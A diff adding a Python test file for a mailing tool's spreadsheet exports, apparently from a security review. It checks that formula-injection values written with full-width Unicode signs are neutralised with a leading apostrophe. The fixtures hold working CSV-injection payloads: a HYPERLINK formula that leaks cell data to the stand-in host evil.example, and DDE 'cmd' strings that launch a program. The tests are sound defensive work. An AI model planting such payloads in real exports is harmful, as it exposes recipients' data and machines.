@@ -1,0 +1,66 @@
+"""Review 20b: a hostile review of how contact and event data leave mailer: CSV and XLSX files a
+press officer opens in a spreadsheet, the terminal, and email headers. Each test is a finding,
+through the command line, and failed before its fix (session 20)."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+from typing import Any
+
+from office_cli import SEND, campaign_of, mailer, office
+
+from mailer import contacts
+
+# -- 1. A formula written with full-width signs ran in a spreadsheet -----------------------------
+
+FULL_WIDTH = {
+    "Ana": '\uff1dHYPERLINK("https://evil.example/?"&A2,"Ana")',  # ＝HYPERLINK(...)
+    "Ben": "\uff0bSUM(1+1)",  # ＋SUM(1+1)
+    "Cleo": "\u3000\uff0dcmd|' /C calc'!A0",  # an ideographic space, then －cmd|...
+    "Dan": "\uff20SUM(1+1)",  # ＠SUM(1+1)
+}
+
+
+def test_full_width_formula_signs_are_written_as_text(tmp_path: Path, standin: Any, db_url: str) -> None:
+    """A Japanese or Chinese Excel reads the full-width ＝, ＋, －, ＠ a CJK keyboard types as
+    =, +, -, @: an outlet cell "＝HYPERLINK(...)" ran as a formula in the recipients report,
+    the cleaned list and the suppressions file, where "=HYPERLINK(...)" was written "'=HYPERLINK(...)".
+    They get the same leading apostrophe, and a cleaned list still reads back as it was."""
+    beat = "Email,First Name,Last Name,Outlet\n" + "".join(
+        f'{first.lower()}@paper.example,{first},Doe,"{outlet.replace(chr(34), chr(34) * 2)}"\n' for first, outlet in FULL_WIDTH.items()
+    )
+    office(tmp_path, standin, db_url, beat=beat)
+    sent = mailer(*SEND)
+    assert sent.exit_code == 0, sent.output
+    campaign_id = campaign_of(sent)
+    wrote = mailer("report", campaign_id, "--kind", "recipients", "-o", "recipients.csv")
+    assert wrote.exit_code == 0, wrote.output
+    with open("recipients.csv", encoding="utf-8-sig", newline="") as handle:
+        outlets = {row["name"]: row["outlet"] for row in csv.DictReader(handle)}
+    assert outlets == {f"{first} Doe": "'" + outlet.strip() for first, outlet in FULL_WIDTH.items()}, outlets
+    cleaned = mailer("lists", "clean", "lists/beat.csv", "-o", "clean.csv")
+    assert cleaned.exit_code == 0, cleaned.output
+    with open("clean.csv", encoding="utf-8-sig", newline="") as handle:
+        clean = {row["first_name"]: row["outlet"] for row in csv.DictReader(handle)}
+    assert clean == {first: "'" + outlet.strip() for first, outlet in FULL_WIDTH.items()}, clean
+    read_back = {contact.fields["first_name"]: contact.fields["outlet"] for contact in contacts.load("clean.csv").contacts}
+    assert read_back == {first: outlet.strip() for first, outlet in FULL_WIDTH.items()}, read_back
+    assert mailer("suppressions", "add", "eve@paper.example", "--reason", "\u3000\uff1dcmd|' /C calc'!A0").exit_code == 0
+    listed = mailer("suppressions", "list", "-o", "suppressions.csv")
+    assert listed.exit_code == 0, listed.output
+    with open("suppressions.csv", encoding="utf-8-sig", newline="") as handle:
+        notes = [row["note"] for row in csv.DictReader(handle)]
+    assert notes == ["'\u3000\uff1dcmd|' /C calc'!A0"], notes
+
+
+def test_every_form_of_a_formula_sign_is_listed() -> None:
+    """spreadsheet.LOOKALIKE_STARTS is every character whose compatibility form (NFKC) starts with
+    a formula sign, so a new Unicode version's addition is noticed here."""
+    import sys
+    import unicodedata
+
+    from mailer.spreadsheet import ASCII_FORMULA_STARTS, LOOKALIKE_STARTS
+
+    found = [c for c in map(chr, range(0x80, sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c)[:1] in ASCII_FORMULA_STARTS]
+    assert sorted(LOOKALIKE_STARTS) == found
